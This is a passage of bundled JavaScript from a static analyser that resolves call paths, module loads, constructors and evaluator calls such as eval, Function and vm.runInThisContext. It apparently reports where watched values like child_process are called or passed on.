    const callee = parenthesized ? unwrap(captured2) : captured2;
    const text = callee.text;
    const first = rootAt(text, 0);
    const namedInside = () => (parenthesized || passedThrough2 || text.startsWith("[") || text.startsWith("{")) && identifiersIn(text).some(known);
    if (!privateRead && !descriptorRead && (first ? !known(first) && !namedInside() : !text.includes("import") && !namedInside())) continue;
    const reflected = REFLECTED.test(text) && resolver.readsByName(callee, ...REFLECT_CALLS) ? namedChildrenOf(node.parent)[0] : void 0;
    const through2 = reflected && resolver.resolve(reflected, reflected.text);
    if (through2 && resolver.filter.evaluator(normalMembers(through2), kind)) {
      const list = reflectedList(node.parent, text);
      const code = list?.type === "array" ? codeOfCall(resolver.filter, resolver.constants, source, normalMembers(through2), kind, list) : { code: { unread: "its arguments are not a list written in place" } };
      calls.push({ start: reflected.startIndex, end: reflected.endIndex, callee: oneLine(reflected.text), path: normalMembers(through2), form: kind, ...code });
      continue;
    }
    const invoked = !reflected && INVOKED_END.test(text) ? invokedThrough(callee) : void 0;
    const path2 = invoked ? resolver.resolve(invoked, invoked.text) : resolver.resolve(callee, text);
    if (!path2 || path2.returns || looksUpNumericAddress(path2, node.parent, resolver.constants)) continue;
    const awaited = first === "await" && !bindings.mayResolve(first) ? /^await\s*/.exec(text)[0].length : 0;
    const normal = normalMembers(path2);
    calls.push({ start: callee.startIndex + awaited, end: callee.endIndex, callee: oneLine(text.slice(awaited)), path: normal, form: kind, ...codeOfCall(resolver.filter, resolver.constants, source, normal, kind, node.parent) });
  }
  const passed = [];
  for (const arg of args2) {
    if (!known(identifierAt(source, arg.startIndex))) continue;
    const path2 = resolver.resolve(arg);
    const handed = calledThrough(path2, arg) ?? path2;
    const factory = handed !== path2;
    const values = handed ? handed.properties ? heldValues(handed) : [handed] : arg.type === "identifier" ? bindings.held(arg.text, arg) : void 0;
    if (!values?.length) continue;
    if (thrown(arg)) {
      if (!factory) for (const value of values) passed.push(reportedWhereStored(arg, value, THROWN_NOTE));
      continue;
    }
    const fn = calleeOfArgument(arg);
    if (fn === TOO_DEEP) {
      for (const value of values) passed.push(tooDeep(arg, value, resolver, source));
      continue;
    }
    if (!fn || (PASS_THROUGH.test(fn.text) || PRIVATE_HELPER.test(fn.text)) && isLibraryFunction(source, fn.text, PROMISIFY_AT.test(fn.text) ? JS_PROMISIFY : JS_COMPILER_HELPERS) || isLibraryFunction(source, fn.text, JS_INSPECTORS)) continue;
    if ((arg.parent?.type !== "arguments" || !path2 || path2.properties) && storeFollowed(fn, resolver, bindings, source)) continue;
    if (factory && (iteratesArray(fn) || isAwait(fn, bindings))) continue;
    for (const value of values) {
      const normal = normalMembers(value);
      passed.push({ start: arg.startIndex, end: arg.endIndex, callee: oneLine(arg.text), path: normal, form: "call", passedTo: oneLine(fn.text), ...factory ? { returned: true } : {}, ...codeOfCall(resolver.filter, resolver.constants, source, normal, "call", null, true) });
    }
  }
  passed.push(...instancesHanded(callees, args2, resolver, bindings, source));
  passed.push(...returnedByHanded(callees, resolver, bindings, known, source));
  for (const literal of resolver.deepLiterals.values()) {
    const values = [];
    handedValues(literal, values);
    for (const value of values) {
      if (!known(identifierAt(source, value.startIndex))) continue;
      const path2 = resolver.resolve(value);
      if (path2 && !path2.returns) passed.push(tooDeep(value, path2, resolver, source));
    }
  }
  return { calls, passed };
}
function instancesHanded(callees, args2, resolver, bindings, source) {
  if (bindings.prototypeMembers.size === 0) return [];
  const passed = [];
  const methodsOf = /* @__PURE__ */ new Map();
  const hand = (arg, owner) => {
    if (owner === void 0) return;
    let methods = methodsOf.get(owner);
    if (!methods) methodsOf.set(owner, methods = bindings.prototypeValues(owner).filter((path2) => path2.returns));
    const fn = methods.length ? calleeOfArgument(arg) : void 0;
    if (!fn || fn === TOO_DEEP || isLibraryFunction(source, fn.text, JS_INSPECTORS)) return;
    for (const method of methods) {
      const normal = normalMembers(calledThrough(method, arg));
      passed.push({ start: arg.startIndex, end: arg.endIndex, callee: oneLine(arg.text), path: normal, form: "call", passedTo: oneLine(fn.text), returned: true, instance: true, ...codeOfCall(resolver.filter, resolver.constants, source, normal, "call", null, true) });
    }
  };
  for (const arg of args2) if (arg.type === "identifier") hand(arg, bindings.instanceClass(arg.text));
  for (const [node, kind] of callees) {
    if (kind !== "new" || !NEW_ARGUMENT.test(source.slice(Math.max(0, node.startIndex - 16), node.startIndex))) continue;
    const made = node.parent;
    if (made?.parent?.type === "arguments") hand(made, resolver.instanceOwner(made));
  }
  return passed;
}
var NEW_ARGUMENT = /[(,]\s*new\s*\(?\s*$/;
var IN_PLACE_FUNCTIONS = /* @__PURE__ */ new Set(["arrow_function", "function_expression", "function", "generator_function", "method_definition"]);
var RETURNED_IN_PLACE = /* @__PURE__ */ new Set(["arrow_function", "function_expression", "function"]);
var JS_FUNCTIONS = /* @__PURE__ */ new Set([...IN_PLACE_FUNCTIONS, "function_declaration", "generator_function_declaration"]);
function handedTo(fn) {
  let node = fn;
  for (let depth = 0; depth < MAX_HANDED_DEPTH; depth++) {
    const parent = node.parent;
    if (!parent) return void 0;
    if (parent.type === "arguments") return parent.parent?.type === "call_expression" || parent.parent?.type === "new_expression" ? parent.parent : void 0;
    const returnedBy2 = parent.type === "arrow_function" ? parent : parent.type === "return_statement" ? enclosing(parent, JS_FUNCTIONS) : void 0;
    if (returnedBy2) {
      if (!IN_PLACE_FUNCTIONS.has(returnedBy2.type)) return void 0;
      node = returnedBy2;
      continue;
    }
    if (parent.type === "call_expression" && parent.childForFieldName("function")?.id === node.id && node.type === "parenthesized_expression") {
      node = parent;
      continue;
    }
    if (!JS_HANDED_THROUGH.has(parent.type) && parent.type !== "parenthesized_expression") return void 0;
    node = parent;
  }
  return TOO_DEEP;
}
function returnedByHanded(callees, resolver, bindings, known, source) {
  const calleeHanded = (value) => {
    const fn = enclosing(value, JS_FUNCTIONS);
    const call2 = fn && IN_PLACE_FUNCTIONS.has(fn.type) ? handedTo(fn) : void 0;
    return call2 === void 0 || call2 === TOO_DEEP ? call2 : call2.childForFieldName(call2.type === "new_expression" ? "constructor" : "function") ?? void 0;
  };
  const accepts = (callee) => !iteratesArray(callee) && !isAwait(callee, bindings) && !storeFollowed(callee, resolver, bindings, source);
  return returnsOfHanded(callees.map(([node]) => node), source, known, JS_FACTORIES, calleeHanded, accepts, (value) => resolver.returnedValue(value)).map(({ value, path: path2, callee }) => {
    if (typeof callee === "string") return tooDeep(value, path2, resolver, source);
    const normal = normalMembers(path2);
    return { start: value.startIndex, end: value.endIndex, callee: oneLine(value.text), path: normal, form: "call", passedTo: oneLine(callee.text), returned: true, ...codeOfCall(resolver.filter, resolver.constants, source, normal, "call", null, true) };
  });
}
var isAwait = (callee, bindings) => callee.type === "identifier" && callee.text === "await" && !bindings.mayResolve("await");
function iteratesArray(callee) {
  const method = callee.type === "member_expression" ? callee.childForFieldName("property")?.text : void 0;
  return method !== void 0 && method !== "then" && (CALLBACK_METHODS.has(method) || REDUCERS.has(method));
}
function tooDeep(value, path2, resolver, source) {
  const normal = normalMembers(path2);
  return { start: value.startIndex, end: value.endIndex, callee: oneLine(value.text), path: normal, form: "call", passedTo: NESTED_TOO_DEEP, ...codeOfCall(resolver.filter, resolver.constants, source, normal, "call", null, true) };
}
function thrown(arg) {
  let container = arg.parent;
  for (let level = 0; container && JS_HANDED_THROUGH.has(container.type) && level < MAX_HANDED_DEPTH; level++) container = container.parent;
  return container?.type === "throw_statement";
}
function reportedWhereStored(value, path2, note) {
  const normal = normalMembers(path2);
  return { start: value.startIndex, end: value.endIndex, callee: oneLine(value.text), path: { ...normal.members.length === 0 ? extend(normal, ANY) : normal, unfollowed: note }, form: "call" };
}
function calleeOfArgument(arg) {
  let container = arg.parent;
  for (let level = 0; container && JS_HANDED_THROUGH.has(container.type); level++) {
    if (level === MAX_HANDED_DEPTH) return TOO_DEEP;
    container = container.parent;
  }
  const call2 = container?.type === "arguments" ? container.parent : void 0;
  return call2?.childForFieldName(call2.type === "new_expression" ? "constructor" : "function");
}
var DEFINE_PROPERTY = "Object.defineProperty";
var SET_PROTOTYPE = "Object.setPrototypeOf";
var PAIR_COLLECTIONS = /* @__PURE__ */ new Set(["Map", "WeakMap"]);
var FROM_ENTRIES = "Object.fromEntries";
var ASSIGN = "Object.assign";
var EXPORTS_OBJECT = /^(?:module\.)?exports$/;
function storeFollowed(fn, resolver, bindings, source) {
  if (resolver.readsByName(fn, ...OBJECT_WRAPPERS)) return true;
  if (resolver.readsByName(fn, FROM_ENTRIES) || fn.type === "identifier" && fn.parent?.type === "new_expression" && PAIR_COLLECTIONS.has(fn.text) && !bindings.declared(fn.text, fn)) return true;
  const args2 = namedChildrenOf(fn.parent);
  if (resolver.readsByName(fn, DEFINE_PROPERTY)) return args2[1]?.type === "string" && !(args2[0]?.type === "identifier" && parameterOwner(args2[0]) !== void 0) && !(args2[0] && unfollowedPrototype(args2[0], source));
  return resolver.readsByName(fn, ASSIGN) && EXPORTS_OBJECT.test(args2[0]?.text.replace(/\s+/g, "") ?? "");
}
var CONSTRUCTOR = "constructor";
var CONSTRUCTOR_CALLED = /constructor['"`\])\s]*\(/;
var CONSTRUCTOR_CALLEE_CHARS = 120;
var FUNCTION_PATH = { module: GLOBAL, members: ["Function"] };
var FUNCTIONS_IN_PLACE = /* @__PURE__ */ new Set(["function_expression", "function", "arrow_function", "generator_function", "class"]);
var PROTOTYPE_OF = /^(?:Object|Reflect)\s*\.\s*getPrototypeOf$/;
var PROTOTYPE_READS = ["Object.getPrototypeOf", "Reflect.getPrototypeOf"];
var PROTOTYPE_READ_HEADS = /* @__PURE__ */ new Set(["Object", "Reflect"]);
function throughConstructor(callee, source) {
  let end = callee.endIndex;
  while (CLOSERS2.has(source[end - 1])) end--;
  if (source.startsWith(CONSTRUCTOR, end - CONSTRUCTOR.length)) return functionConstructorAt(unwrap(callee));
  const last = source[end - 1];
  const bound = (last === "l" || last === "y" || last === "d") && INVOKED_OR_BOUND.test(source.slice(Math.max(0, end - 6), end)) ? invokedThrough(callee, true) : void 0;
  return bound && source.slice(bound.startIndex, bound.endIndex).includes(CONSTRUCTOR) ? functionConstructorAt(unwrap(bound)) : void 0;
}
var CLOSERS2 = /* @__PURE__ */ new Set([")", "]", "'", '"', "`", " ", "	", "\n", "\r"]);
var INVOKED_OR_BOUND = /(?:call|apply|bind)$/;
function functionConstructorAt(member) {
  if (!isConstructorRead(member)) return void 0;
  const object = unwrap(member.childForFieldName("object"));
  if (isConstructorRead(object) || FUNCTIONS_IN_PLACE.has(object.type)) return FUNCTION_PATH;
  if (object.type !== "call_expression" || !PROTOTYPE_OF.test(object.childForFieldName("function")?.text ?? "")) return void 0;
  const [of2] = namedChildrenOf(object);
  return of2 && FUNCTIONS_IN_PLACE.has(unwrap(of2).type) ? FUNCTION_PATH : void 0;
}
function isConstructorRead(node) {
  const type = node.type;
  if (type === "member_expression") return node.childForFieldName("property")?.text === CONSTRUCTOR;
  const index = type === "subscript_expression" ? node.childForFieldName("index") : null;
  return index?.type === "string" && stringValue(index) === CONSTRUCTOR;
}
var INSPECTOR_LOAD = /(?:\bfrom|\bimport|\brequire)\s*\(?\s*['"`](?:node:)?inspector(?:\/promises)?['"`]/;
var INSPECTOR_POST = { module: "inspector", members: ["Session", RETURNED, "post"] };
function inspectorPost(callee, constants, source) {
  if (!source.startsWith("post", callee.endIndex - 4) || callee.type !== "member_expression" || callee.childForFieldName("property")?.text !== "post") return void 0;
  const [method] = namedChildrenOf(callee.parent);
  const name2 = method && constants.stringOf(method);
  return name2 !== void 0 && INSPECTOR_EVALUATES.has(name2) && INSPECTOR_LOAD.test(source) ? INSPECTOR_POST : void 0;
}
function methodHeld(fn) {
  const holder = fn.parent;
  return holder?.type === "pair" || assigns(holder) && holder.childForFieldName("left")?.type === "member_expression";
}
var BODY_OWNERS = /* @__PURE__ */ new Set(["function_declaration", "function_expression", "function", "generator_function_declaration", "generator_function", "arrow_function", "method_definition"]);
function strictDirective(body2) {
  for (const statement of namedChildrenOf(body2)) {
    const directive = statement.type === "expression_statement" ? statement.namedChild(0) : null;
    if (directive?.type !== "string") return false;
    if (stringValue(directive) === "use strict") return true;
  }
  return false;
}
var LITERAL_ARGUMENTS = /\s*\(\s*(?:(["'`])([^"'`\\\n$]*)\1\s*)?\)/y;
function namesLiterally(source, end) {
  LITERAL_ARGUMENTS.lastIndex = end;
  const match = LITERAL_ARGUMENTS.exec(source);
  return match !== null && !DATA_URL.test(match[2] ?? "") && !namesNativeAddon(match[2] ?? "");
}
var WITH_TEXT = /\bwith\s*\(/;
var WITH_TEXTS = new RegExp(WITH_TEXT.source, "g");
function withBodies(root, source) {
  const bodies = [];
  for (const match of source.matchAll(WITH_TEXTS)) {
    const keyword = root.descendantForIndex(match.index);
    const body2 = keyword?.type === "with" && keyword.parent?.type === "with_statement" ? keyword.parent.childForFieldName("body") : null;
    if (body2) bodies.push({ start: body2.startIndex, end: body2.endIndex });
  }
  return bodies;
}
function withMember(callee, resolver, objects) {
  const chain = simpleChain((invokedThrough(callee) ?? callee).text);
  if (!chain?.length) return void 0;
  for (let node = callee.parent; node; node = node.parent) {
    if (node.type !== "with_statement" || callee.startIndex < (node.childForFieldName("body")?.startIndex ?? Infinity)) continue;
    if (!objects.has(node.id)) {
      const object2 = node.childForFieldName("object");
      const inner = object2 && unwrap(object2);
      objects.set(node.id, inner ? resolver.resolve(inner) : void 0);
    }
    const object = objects.get(node.id);
    if (object) return through(extend(object, ...chain), node.childForFieldName("object"));
  }
  return void 0;
}
function arrayElement(array, position) {
  let at = 0;
  for (const child of array.children) {
    if (!child || isComment(child) || child.type === "[") continue;
    if (child.type === "spread_element") return void 0;
    if (child.type === ",") at++;
    else if (at === position) return child.type === "]" ? void 0 : child;
  }
  return void 0;
}
var NEW_PREFIX = /new\s*\(\s*|new\s+/y;
function rootAt(text, offset) {
  const head = identifierAt(text, offset);
  if (head !== "new") return head;
  NEW_PREFIX.lastIndex = offset;
  return NEW_PREFIX.test(text) ? identifierAt(text, NEW_PREFIX.lastIndex) : head;
}
function invokedThrough(callee, bound = false) {
  if (callee.type !== "member_expression") return void 0;
  const property = callee.childForFieldName("property")?.text;
  return property === "call" || property === "apply" || bound && property === "bind" ? callee.childForFieldName("object") ?? void 0 : void 0;
}
function unwrap(node) {
  let n = node;
  for (; ; ) {
    const type = n.type;
    const inner = type === "parenthesized_expression" || type === "sequence_expression" ? namedChildrenOf(n) : [];
    if (type === "parenthesized_expression" && inner.length === 1) n = inner[0];
    else if (type === "sequence_expression" && inner.length > 0) n = inner.at(-1);
    else return n;
  }
}
function unwrapParentheses(node) {
  let n = node;
  while (n.type === "parenthesized_expression" && n.namedChildCount === 1) n = n.namedChild(0);
  return n;
}
var NAMESPACE_INTEROP = new RegExp(`^${NAMESPACE_HELPER_NAME}$`);
var DEFAULT_INTEROP_NAME = String.raw`(?:[\w$]+\s*\.\s*)?(?:__importDefault|_interopRequireDefault|_interop_require_default)`;
var DEFAULT_INTEROP = new RegExp(`^${DEFAULT_INTEROP_NAME}$`);
var PASS_THROUGH = new RegExp(String.raw`^(?:(?:util\s*\.\s*)?promisify|await|_interopDefault|${NAMESPACE_HELPER_NAME}|${DEFAULT_INTEROP_NAME})$`);
var PASS_THROUGH_HEADS = /* @__PURE__ */ new Set(["promisify", "util"]);
var PROMISIFY_AT = /^(?:util\s*\.\s*)?promisify$/;
var MAX_INTEROP_ARGUMENTS = 2;
var INTEROP_CALL = new RegExp(String.raw`^(?:${NAMESPACE_HELPER_NAME}|${DEFAULT_INTEROP_NAME})\s*\(`);
var EXPORTS_TARGET = /^(?:module\.exports|(?:module\.)?exports\.default)$/;
var GLOBAL_SCOPE_EVALUATORS = new Set(Object.entries(EVALUATORS.javascript).flatMap(([target, evaluator]) => evaluator.globalScope ? [target] : []));
var targetOf = (path2) => (path2.module === GLOBAL ? path2.members : [path2.module, ...path2.members]).join(".");
var JS_FALLBACK = /\?\?|\|\||\?|&&/;
var Resolver = class {
  constructor(bindings, filter, project2, constants = new Constants(), deadline, strictFile = false) {
    this.bindings = bindings;
    this.filter = filter;
    this.project = project2;
    this.constants = constants;
    this.deadline = deadline;
    this.strictFile = strictFile;
  }
  bindings;
  filter;
  project;
  constants;
  deadline;
  strictFile;
  /** Literals nested past MAX_RESOLVE_DEPTH literals that a read reached, by start (literalEntries; reported in callsOf). */
  deepLiterals = /* @__PURE__ */ new Map();
  /**
   * What each call resolved to, by node and depth: a call's callee is asked whether it loads a module (loadPosition) and
   * what it returns (returned), each resolving it, so calls of calls (`cp()()\u2026`, `((() => () => f)())()`; protobufjs's
   * bundles) cost 2^depth. Kept while one resolve from outside runs (`resolving`): the bindings do not change there.
   */
  calls = /* @__PURE__ */ new Map();
  /**
   * What each generator yields, by node id, kept as `calls` is: read once per resolve from outside, and undefined while
   * it is read (a generator delegating to itself, `yield* walk(child)`, or to another that delegates back: each `yield*`
   * would read all of them again, exponential).
   */
  yields = /* @__PURE__ */ new Map();
  resolving = false;
  /** The file's top-level functions by name (a callback named, `[cp].map(pick)`), read when first asked. */
  functions;
  resolve(node, text = node.text, depth = 0) {
    return this.resolving ? this.resolveAt(node, text, depth) : this.session(() => this.resolveAt(node, text, depth));
  }
  /** One resolve from outside: what it remembers (calls, yields) is kept until it ends. */
  session(read) {
    this.deadline?.check();
    this.resolving = true;
    try {
      return read();
    } finally {
      this.resolving = false;
      this.calls.clear();
      this.yields.clear();
    }
  }
  resolveAt(node, text, depth) {
    if (depth > MAX_RESOLVE_DEPTH) return void 0;
    if (text.endsWith("require") && node.type === "member_expression" && node.childForFieldName("property")?.text === "require" && this.moduleObjectAt(node, depth)) return { module: GLOBAL, members: [...MADE_REQUIRE] };
    if (text.endsWith(CONSTRUCTOR)) {
      const reached = functionConstructorAt(node);
      if (reached) return reached;
    }
    const chain = simpleChain(text);
    if (chain) return chainPath(this.bindings, chain, node) ?? (chain[0] === "this" && chain.length > 1 ? this.ownPrototype(chain, node) : void 0);
    switch (node.type) {
      case "member_expression": {
        const property = node.childForFieldName("property");
        const object = node.childForFieldName("object");
        if (object?.type === "member_expression" && property) {
          const reads = [property.text];
          let inner = object;
          for (; ; ) {
            const next = inner.childForFieldName("object");
            const read = inner.childForFieldName("property")?.text;
            if (next?.type !== "member_expression" || read === void 0 || read === CONSTRUCTOR) break;
            reads.push(read);
            inner = next;
          }
          const base2 = this.resolveAt(inner, inner.text, depth + 1);
          return base2 && extend(base2, ...reads.reverse());
        }
        const loaded = object && property ? this.projectRequire(object) : void 0;
        if (loaded !== void 0) {
          const path2 = this.project.lookup(loaded, property.text);
          return path2 && through(normalMembers(path2), object);
        }
        const base = this.child(node, "object", depth);
        if (base) return property ? extend(base, property.text) : void 0;
        const stepped = property?.text === "value" ? iteratorStepped(object) : void 0;
        if (stepped) return this.elementOf(stepped, false, depth + 1);
        if (object?.type !== "new_expression" && !(object?.type === "call_expression" && PROTOTYPE_READ_HEADS.has(identifierAt(object.text, 0) ?? "")) || !property) return void 0;
        const key = this.slotKey(node);
        return key ? this.bindings.slotPath(key.split(".")) : object.type === "new_expression" ? this.requiredInstanceMember(object, property.text) : void 0;
      }
      case "subscript_expression": {
        const slot = this.slot(node);
        if (slot) return slot;
        const base = this.child(node, "object", depth);
        const index = node.childForFieldName("index");
        if (base) return index ? extend(base, base.properties ? this.propertyKey(index) ?? ANY_ENTRY : this.constants.stringOf(index) ?? ANY) : void 0;
        const object = node.childForFieldName("object");
        if (object?.type === "array" && index) {
          const key = this.propertyKey(index);
          const element = key !== void 0 && ARRAY_INDEX.test(key) ? arrayElement(object, Number(key)) : void 0;
          if (element) return this.resolve(element, element.text, depth + 1);
          return key !== void 0 && ARRAY_INDEX.test(key) ? this.firstResolved(arrayElements(object).filter((e) => e !== HOLE && e?.type === "spread_element"), depth) : void 0;
        }
        if (object?.type === "identifier") return index ? this.bindings.picked(object.text, object, this.propertyKey(index)) : void 0;
        return this.elementRead(node, depth);
      }
      case "call_expression": {
        const key = node.id * (MAX_RESOLVE_DEPTH + 2) + depth;
        if (this.calls.has(key)) return this.calls.get(key);
        const path2 = this.resolveCall(node, text, depth);
        this.calls.set(key, path2);
        return path2;
      }
      case "new_expression": {
        const constructor = node.childForFieldName("constructor");
        const made = constructor?.type === "identifier" && MADE_OF_ARGUMENT.has(constructor.text) && !this.bindings.declared(constructor.text, constructor) ? constructor.text : void 0;
        const [given2] = made ? namedChildrenOf(node) : [];
        if (made === "Proxy") return given2 && this.resolve(given2, given2.text, depth + 1);
        if (made === "WeakRef") {
          const target = given2 && this.resolve(given2, given2.text, depth + 1);
          return target && { module: OBJECT, members: [], properties: { deref: { ...target, returns: (target.returns ?? 0) + 1 } } };
        }
        const copied = made && given2 ? this.entriesOf(given2) : void 0;
        return copied ? this.entriesObject(copied, node, true, depth) : made ? void 0 : this.returned(constructor, depth, void 0, node);
      }
      // `opts.fetch ?? fetch`, `a || b`, `c ? a : b`: either side may be the value; `ok && cp`: the right (a watched value is truthy: on the left, never the value).
      case "binary_expression":
      case "ternary_expression": {
        const fields = node.type === "ternary_expression" ? ["consequence", "alternative"] : node.childForFieldName("operator")?.type === "&&" ? ["right"] : ["left", "right"];
        for (const field of fields) {
          const path2 = this.child(node, field, depth);
          if (path2) return path2;
        }
        return void 0;
      }
      // `({ ...cp }).exec`: a copy holds the members of what is spread into it (as `Object.assign({}, cp)`); the first that resolves.
      // Else the literal's own watched values (`({ a: [cp.exec] }).a[0]`, heldLiteral).
      case "object": {
        for (const child of node.namedChildren) {
          const spread = child?.type === "spread_element" ? child.namedChild(0) : null;
          const path2 = spread && this.resolve(spread, spread.text, depth + 1);
          if (path2) return path2;
        }
        return heldLiteral(literalEntries(node, this, this.bindings, depth + 1));
      }
      // `(0, make)`, TypeScript's compiled call of an imported function: the last expression's value.
      case "sequence_expression": {
        const last = namedChildrenOf(node).at(-1);
        return last ? this.resolve(last, last.text, depth + 1) : void 0;
      }
      case "await_expression":
      case "parenthesized_expression":
      case "non_null_expression":
      case "as_expression":
      case "satisfies_expression":
      // TypeScript's `execSync<string>` (an instantiation expression): the function, as TypeScript emits it.
      case "instantiation_expression":
      // TypeScript's `<any>window`: the expression follows its type.
      case "type_assertion": {
        const inner = node.type === "type_assertion" ? namedChildrenOf(node).at(-1) : namedChildrenOf(node)[0];
        const promised = node.type === "await_expression" && inner?.type === "call_expression" && this.readsByName(inner.childForFieldName("function"), PROMISE) ? namedChildrenOf(inner)[0] : inner;
        return promised ? this.resolve(promised, promised.text, depth + 1) : void 0;
      }
      // A function written in place that is a factory (factories.ts placedFunction): its value, flagged `returns`.
      case "arrow_function":
      case "function_expression":
      case "function":
      case "generator_function":
      case "method_definition":
        return this.bindings.returnedBy(node.startIndex);
      default:
        return void 0;
    }
  }
  /**
   * `this.run` in a method of `class K`, no `this.run` slot bound: the class's instances' slot `K.prototype.run` (an
   * instance method that is a factory, factories.ts). Asked only for a member some class's prototype holds.
   */
  ownPrototype(chain, node) {
    const member = chain[1] === CONSTRUCTOR && chain[2] === "prototype" ? 3 : 1;
    if (!this.bindings.prototypeMembers.has(chain[member] ?? "")) return void 0;
    const owner = classNameAround(node);
    return owner ? this.bindings.slotPath([owner.text, "prototype", ...chain.slice(member)]) : void 0;
  }
  /** A function's returned value (factories.ts): an object or array literal of watched values is the literal's (heldLiteral), anything else what it resolves to. */
  returnedValue(node) {
    const value = unwrap(node);
    return value.type === "object" || value.type === "array" ? heldLiteral(literalEntries(value, this, this.bindings)) : this.resolve(node);
  }
  /** resolve's case of a call (memoized there): a slot read, a function returned in place, a module loaded, or what the callee returns. */
  resolveCall(node, text, depth) {
    const key = this.slotKey(node, depth);
    if (key) return this.bindings.slotPath(key.split("."));
    const fn = node.childForFieldName("function");
    const returned = fn?.type === "parenthesized_expression" || fn?.type === "function_expression" ? returnedInPlace(fn) : null;
    if (returned) {
      const args2 = namedChildrenOf(node.childForFieldName("arguments"));
      let value = returned;
      let calls = 0;
      for (let inner = returnedInPlace(value); inner && calls < MAX_HANDED_DEPTH; inner = returnedInPlace(value), calls++) value = inner;
      const path2 = this.callbackReturn(value, parametersOf(unwrap(fn)).map((parameter, i2) => [parameter, args2[i2], true]), depth);
      return calls && path2 ? { ...path2, returns: (path2.returns ?? 0) + calls } : path2;
    }
    const reflected = text.startsWith("Reflect") && fn && this.readsByName(fn, ...REFLECT_CALLS) ? this.reflectedValue(node, fn, depth) : void 0;
    return reflected ?? this.moduleOfCall(node, depth) ?? (ELEMENT_READ_CALL.test(text) ? this.elementRead(node, depth) : void 0) ?? this.returned(fn, depth, node);
  }
  /** A global-scope evaluator called through Reflect (`reflect`, its callee `fn`) with a list written in place: what its code gives; never a direct eval. */
  reflectedValue(reflect, fn, depth) {
    const [target] = namedChildrenOf(reflect);
    const list = reflectedList(reflect, fn.text);
    const evaluator = target && list?.type === "array" ? this.resolve(target, target.text, depth + 1) : void 0;
    return evaluator && GLOBAL_SCOPE_EVALUATORS.has(targetOf(normalMembers(evaluator))) ? this.evaluatedValue(normalMembers(evaluator), fn, list) : void 0;
  }
  /**
   * What a call or `new` of a client returns: followed, so its methods are calls on the client; a call of a factory (`call`)
   * is what it returns; an evaluator's call or `new` (`made`: the `new`) what its code gives (evaluatedValue).
   */
  returned(fn, depth, call2, made) {
    const base = fn ? this.resolve(fn, fn.text, depth + 1) : void 0;
    if (base?.returns) return call2 && called(base, call2);
    const evaluated = base && (call2 ?? made) && GLOBAL_SCOPE_EVALUATORS.has(targetOf(normalMembers(base))) ? this.evaluatedValue(normalMembers(base), fn, call2 ?? made) : void 0;
    if (evaluated) return evaluated;
    return base && this.filter.returnsWatched(normalMembers(base)) ? extend(base, RETURNED) : void 0;
  }
  /**
   * The value an evaluator's call gives when its constant code is only a name and members (`this`, `globalThis`,
   * `process.mainModule`): `Function(code)` a function returning it (its body run in the global scope, `this` the global
   * object when called plainly, a factory's value: `called`), `vm.runInThisContext(code)` and an indirect eval (`(0,
   * eval)(code)`, `e(code)` of `const e = eval`) its value in the global scope. A direct `eval(code)` (the callee the name
   * `eval` itself) reads the names where it is called, and its `this` is the caller's (a CommonJS module's exports): the
   * names only. Strict code, or any other, is not read here (its crossings are the evaluated code's, evaluators.ts).
   */
  evaluatedValue(evaluator, fn, call2) {
    const body2 = evaluator.members[0] === "Function";
    const args2 = namedChildrenOf(call2);
    const code = this.constants.stringOf(body2 ? args2.at(-1) : args2[0], 0, CODE);
    const chain = code === void 0 ? void 0 : nameChainOf(code, body2);
    if (!chain) return void 0;
    const [root, ...members] = chain;
    const direct = evaluator.members[0] === "eval" && unwrapParentheses(fn).type === "identifier" && unwrapParentheses(fn).text === "eval";
    const global = root === "this" ? !direct || this.sloppyPlainFunctionAt(call2) ? { module: GLOBAL, members: [] } : void 0 : direct ? this.bindings.lookup(root, call2) : root === "require" ? void 0 : globalPath(root);
    if (!global) return void 0;
    const value = through(extend(global, ...members), call2);
    return body2 ? { ...value, returns: 1 } : value;
  }
  /**
   * Is `node` in a plain function (`function f() {\u2026}`, an arrow in one) of sloppy code? Called plainly, its `this` is the
   * global object (a method's is its object; at a CommonJS file's top, module.exports). Strict code: a file so by its
   * kind, a "use strict" directive of the file or an enclosing function, a class body, an ES module by its syntax.
   */
  sloppyPlainFunctionAt(node) {
    if (this.strictFile) return false;
    let plain;
    for (let at = node.parent; at; at = at.parent) {
      const type = at.type;
      if (type === "class_body") return false;
      const owner = type === "statement_block" ? at.parent?.type : void 0;
      if (owner && BODY_OWNERS.has(owner) && strictDirective(at)) return false;
      if (plain === void 0 && owner && BODY_OWNERS.has(owner) && owner !== "arrow_function") plain = owner !== "method_definition" && !methodHeld(at.parent);
      if (type === "program") return plain === true && !strictDirective(at) && !namedChildrenOf(at).some((statement) => statement.type === "import_statement" || statement.type === "export_statement");
    }
    return plain === true;
  }
  /** A watched value stored in an attribute or container slot (`this.client`, `values["client"]`). */
  slot(node) {
    return slotValue(this.bindings, node, (n) => this.slotKey(n));
  }
  /** The slot key of the class a `new` makes (`Shell`, `a_1.K` of a namespace, parenthesized too), else undefined. */
  instanceOwner(made, depth = 0) {
    const constructor = made.childForFieldName("constructor");
    if (constructor?.type === "identifier") return constructor.text;
    const owner = constructor && unwrapParentheses(constructor);
    return owner?.type === "member_expression" && this.bindings.slotRoots.has(identifierAt(owner.text, 0) ?? "") ? this.slotKey(owner, depth + 1) : void 0;
  }
  /** `new (require("./a").K)().run`: the member the project file offers its class's instances (`K.prototype.run`). */
  requiredInstanceMember(made, member) {
    const constructor = made.childForFieldName("constructor");
    const owner = constructor && unwrapParentheses(constructor);
    const object = owner?.type === "member_expression" ? owner.childForFieldName("object") : null;
    const loaded = object ? this.projectRequire(object) : void 0;
    const path2 = loaded !== void 0 ? this.project.lookup(loaded, `${owner.childForFieldName("property").text}.prototype.${member}`) : void 0;
    return path2 && through(normalMembers(path2), made);
  }
  /**
   * The slot key of the prototype of `of`: `this` in a class's method, its class's (`K.prototype`); a name, the name
   * (Bindings.slotPath reads an instance's members as its class's, an object's missing ones as its `__proto__`'s); `new K()`, `K.prototype`.
   */
  prototypeKey(of2, depth) {
    const value = unwrapParentheses(of2);
    if (value.type === "this") {
      const owner = classNameAround(value);
      return owner ? `${owner.text}.prototype` : void 0;
    }
    return value.type === "identifier" || value.type === "new_expression" ? this.slotKey(value, depth + 1) : void 0;
  }
  /** `this.client` \u2192 "this.client", `values["client"]` \u2192 "values.client"; undefined for anything else. */
  slotKey(node, depth = 0) {
    if (depth > MAX_RESOLVE_DEPTH) return void 0;
    const type = node.type;
    if (type === "identifier" || type === "this") return node.text;
    if (type === "default") return "default";
    if (type === "=") return "module.exports";
    if (type === "new_expression") {
      const owner = this.instanceOwner(node, depth);
      return owner && `${owner}.prototype`;
    }
